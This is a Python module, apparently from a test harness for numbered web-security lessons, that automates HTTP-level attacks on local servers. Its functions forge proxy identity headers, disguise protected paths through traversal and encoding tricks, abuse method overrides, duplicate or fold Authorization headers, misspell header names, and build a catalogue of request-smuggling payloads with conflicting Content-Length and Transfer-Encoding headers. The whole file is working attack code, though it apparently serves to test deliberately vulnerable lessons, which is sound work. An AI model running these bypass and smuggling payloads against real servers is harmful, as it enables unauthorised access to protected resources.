"""Attacks on any lesson through HTTP itself: how headers, paths and messages are read."""

import itertools

from attack import PROTECTED, credentials, first, is_in, number
from wire import NoAnswer, ask, request, send

FORGED = [b"X-Forwarded-User", b"X-Remote-User", b"Remote-User", b"X-Authenticated-User", b"X-User"]
HOSTS = [b"X-Forwarded-For: 127.0.0.1", b"X-Real-IP: 127.0.0.1", b"Forwarded: for=127.0.0.1"]


def protected(target):
    """Return the path that only a known user may see, as bytes."""
    return PROTECTED[number(target)].encode()


def name_in_another_header(target):
    """Name a user, or this machine, in the headers that a proxy would set."""
    lines = [name + b": user1" for name in FORGED] + HOSTS
    lines += [b"Cookie: user=user1; session=user1", b"X-Original-URL: /public"]
    path = protected(target)
    return first(target, [request(b"GET", path, line) for line in lines])


def another_name_of_the_page(target):
    """Write the page's address in other ways, past a check that goes by its spelling."""
    path = protected(target)
    paths = [b"/" + path, path + b"/", path + b"?", path + b"#", path + b";x", path + b"%00"]
    paths += [b"/." + path, b"/x/.." + path, b"/%2e" + path, b"/%2f" + path, path.upper() + b"%20"]
    paths += [b"http://127.0.0.1" + path, b"http://user1:pass1@127.0.0.1" + path, b"*", b"", b"//"]
    paths += [b"/public/.." + path, b"/public/%2e%2e" + path, b"/public%2f.." + path]
    return first(target, [request(b"GET", p) for p in paths])


def another_method(target):
    """Ask with other methods, with made-up ones, and with headers that claim another."""
    path = protected(target)
    methods = [
        b"HEAD",
        b"OPTIONS",
        b"TRACE",
        b"CONNECT",
        b"PUT",
        b"PATCH",
        b"DELETE",
        b"get",
        b"GE",
    ]
    tries = [request(method, path) for method in methods]
    tries += [
        request(b"POST", path, name + b": GET", body=b"")
        for name in (b"X-HTTP-Method-Override", b"X-HTTP-Method", b"X-Method-Override")
    ]
    usual = ask(target.port, request(b"GET", path)).status
    for data in tries:
        try:
            answer = ask(target.port, data)
        except NoAnswer:
            continue
        quiet = data.startswith((b"OPTIONS ", b"TRACE "))  # OPTIONS may answer, without the page
        if is_in(answer) or (answer.status == 200 != usual and not quiet):
            return f"status {answer.status} for {data!r}"


def two_of_them(target):
    """Send a wrong Authorization header beside the right one: which of them is read?"""
    which, path = number(target), protected(target)
    wrong = {"02": b"Basic eDp4", "03": b"Digest x=y", "04": b"Bearer x", "05": b"Basic eDp4"}[
        which
    ]
    for order in range(2):
        right, *more = credentials(target)
        lines = [right, b"Authorization: " + wrong]
        found = first(target, [request(b"GET", path, *lines[:: 1 - 2 * order], *more)])
        if found:
            return found


def in_one_header(target):
    """Put a right and a wrong value into one header, with a comma between them."""
    which, path = number(target), protected(target)
    wrong = {"02": b"Basic eDp4", "03": b"Digest x=y", "04": b"Bearer x", "05": b"Basic eDp4"}[
        which
    ]
    for order, comma in itertools.product(range(2), (b",", b", ", b" , ")):
        right, *more = credentials(target)
        values = [right.removeprefix(b"Authorization: "), wrong][:: 1 - 2 * order]
        line = b"Authorization: " + comma.join(values)
        found = first(target, [request(b"GET", path, line, *more)])
        if found:
            return found


def hidden_in_a_fold(target):
    """Hide the header in a line that continues another one: no filter on the way sees it."""
    path = protected(target)
    for gap in (b" ", b"\t", b"  \t"):
        line, *more = credentials(target)
        found = first(target, [request(b"GET", path, b"X-Note: a\r\n" + gap + line, *more)])
        if found:
            return found


def almost_its_name(target):
    """Spell the header's name in ways that a filter on the way would not know."""
    path = protected(target)
    own = b"Cookie" if number(target) == "06" else b"Authorization"
    i = own.index(b"i")
    names = [own + b" ", own + b"\t", b" " + own, own + b"\x0b", own + b"\0", b"X\n" + own]
    names += [own[:i] + b"\xc4\xb1" + own[i + 1 :], own[:i] + b" " + own[i:]]
    for name in names:
        line, *more = credentials(target)
        line = line.replace(own, name, 1)
        found = first(target, [request(b"GET", path, *more, line)])
        if found:
            return found


def smuggled(target):
    """Hide a request in another one's body, so that what follows lends it its credentials."""
    which = number(target)
    hidden = b"GET " + protected(target) + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Note: "
    for shape in shapes(hidden):
        lines = credentials(target) if which in ROUTES else []
        victim = request(b"GET", b"/other", *lines)
        try:
            found = send(target.port, shape + victim)
        except NoAnswer:
            continue
        if any(is_in(answer) for answer in found):
            return f"the hidden request was answered, in {shape!r}"


ROUTES = {"02", "03", "04", "05", "06"}


def shapes(hidden, path=b"/other"):
    """Return the ways to disagree on where a body ends, each with the hidden request in it."""
    chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (len(hidden), hidden)
    ended = b"0\r\n\r\n" + hidden
    kinds = [
        ([b"Content-Length: 0", b"Content-Length: %d" % len(hidden)], hidden),
        ([b"Content-Length: %d" % len(hidden), b"Content-Length: 0"], hidden),
        ([b"Content-Length: 0, %d" % len(hidden)], hidden),
        ([b"Content-Length: +0"], hidden),
        ([b"Content-Length: 0x0"], hidden),
        ([b"Content-Length: -1"], hidden),
        ([b"Content-Length : %d" % len(hidden)], hidden),
        ([b"Content-Length: %d" % len(ended), b"Transfer-Encoding: chunked"], ended),
        ([b"Transfer-Encoding: chunked", b"Content-Length: 4"], chunk),
        ([b"Transfer-Encoding: chunked", b"Transfer-Encoding: identity"], ended),
        ([b"Transfer-Encoding: identity, chunked"], ended),
        ([b"Transfer-Encoding: xchunked"], ended),
        ([b"Transfer-Encoding:\x0bchunked"], ended),
        ([b"Transfer-Encoding\t: chunked"], ended),
        ([b"Transfer-Encoding: chunked", b"Content-Length: 0"], ended),
        ([b"X: y\nTransfer-Encoding: chunked"], ended),
        ([], hidden),
    ]
    head = b"POST %s HTTP/1.1\r\nHost: 127.0.0.1\r\n" % path
    return [head + b"".join(n + b"\r\n" for n in names) + b"\r\n" + body for names, body in kinds]
